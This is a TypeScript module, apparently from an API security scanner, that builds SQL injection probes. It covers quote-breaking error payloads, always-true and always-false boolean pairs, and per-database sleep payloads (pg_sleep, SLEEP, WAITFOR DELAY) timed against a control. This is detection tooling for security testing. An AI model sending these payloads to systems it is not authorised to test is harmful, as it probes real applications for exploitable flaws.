// SQL injection probes: quotes that break a query (error signatures), a true and a false condition
// compared with the baseline (twice, with two syntaxes), and sleeps confirmed against a no-sleep control.
import { emptyPlan, probeId, type FamilyInput, type FamilyPlan } from '../family.js';
import { probeCase, probeScenario } from '../inject.js';
import { isNumeric, type InjectionTarget } from '../targets.js';
import { PROBE_DELAY_MS, PROBE_DELAY_SECONDS } from '../timing.js';
import type { ProbeExpectation } from '../../../core/test-case.js';

const CHECK = 'sql_injection';

export function errorPayloads(base: string): string[] {
  return [`${base}'`, `${base}"`];
}

/** [true, false] pairs; the query's own closing quote completes the string forms. */
export function booleanPairs(base: string, numeric: boolean): [string, string][] {
  return numeric
    ? [
        [`${base} OR 1=1`, `${base} AND 1=2`],
        [`${base} OR 2>1`, `${base} AND 2<1`],
      ]
    : [
        [`${base}' OR '1'='1`, `${base}' AND '1'='2`],
        [`${base}' OR 'a'='a`, `${base}' AND 'a'='b`],
      ];
}

/** Sleep payloads per database, as a function of the delay (0 gives the control). */
export function delayPayloads(base: string, numeric: boolean): { db: string; payload: (seconds: number) => string }[] {
  return numeric
    ? [
        { db: 'postgresql', payload: (s) => `${base} AND 1=(SELECT 1 FROM pg_sleep(${s}))` },
        { db: 'mysql', payload: (s) => `${base} AND SLEEP(${s})=0` },
        { db: 'sqlserver', payload: (s) => `${base};WAITFOR DELAY '0:0:${s}'--` },
      ]
    : [
        { db: 'postgresql', payload: (s) => `${base}'||(SELECT '' FROM pg_sleep(${s}))||'` },
        { db: 'mysql', payload: (s) => `${base}' AND SLEEP(${s})=0 AND '1'='1` },
        { db: 'sqlserver', payload: (s) => `${base}';WAITFOR DELAY '0:0:${s}'--` },
      ];
}

export function planSql(input: FamilyInput): FamilyPlan {
  const plan = emptyPlan();
  for (const target of input.targets) {
    const base = String(target.base);
    const numeric = isNumeric(target);
    errorPayloads(base).forEach((payload, i) => {
      plan.cases.push(probeCase(probeId(CHECK, input, target, `error-${i}`), input.operation, input.request, target, spec('error', payload, 'SQL syntax-breaking quote'), CHECK));
    });
    plan.scenarios.push(booleanScenario(input, target, base, numeric));
    for (const { db, payload } of delayPayloads(base, numeric)) {
      plan.scenarios.push(
        probeScenario(
          probeId(CHECK, input, target, `time-${db}`),
          'sqli_time',
          input.operation,
          input.request,
          target,
          [
            { role: 'baseline' },
            { role: 'delay-1', spec: spec('delay', payload(PROBE_DELAY_SECONDS), `SQL sleep (${db})`, { delayMs: PROBE_DELAY_MS }) },
            { role: 'control', spec: spec('control', payload(0), `SQL zero sleep (${db})`, { delayMs: 0 }) },
            { role: 'delay-2', spec: spec('delay', payload(PROBE_DELAY_SECONDS), `SQL sleep (${db}), repeated`, { delayMs: PROBE_DELAY_MS }) },
          ],
          CHECK,
          `Time-based SQL injection (${db})`,
        ),
      );
    }
  }
  return plan;
}

function booleanScenario(input: FamilyInput, target: InjectionTarget, base: string, numeric: boolean) {
  const [[true1, false1], [true2, false2]] = booleanPairs(base, numeric) as [[string, string], [string, string]];
  return probeScenario(
    probeId(CHECK, input, target, 'boolean'),
    'sqli_boolean',
    input.operation,
    input.request,
    target,
    [
      { role: 'baseline' },
      { role: 'true-1', spec: spec('true', true1, 'SQL always-true condition') },
      { role: 'false-1', spec: spec('false', false1, 'SQL always-false condition') },
      { role: 'true-2', spec: spec('true', true2, 'SQL always-true condition (second syntax)') },
      { role: 'false-2', spec: spec('false', false2, 'SQL always-false condition (second syntax)') },
    ],
    CHECK,
    'Boolean-based SQL injection',
  );
}

function spec(probe: string, payload: string, description: string, expects?: ProbeExpectation) {
  return { family: CHECK, probe, payload, description, ...(expects !== undefined ? { expects } : {}) };
}
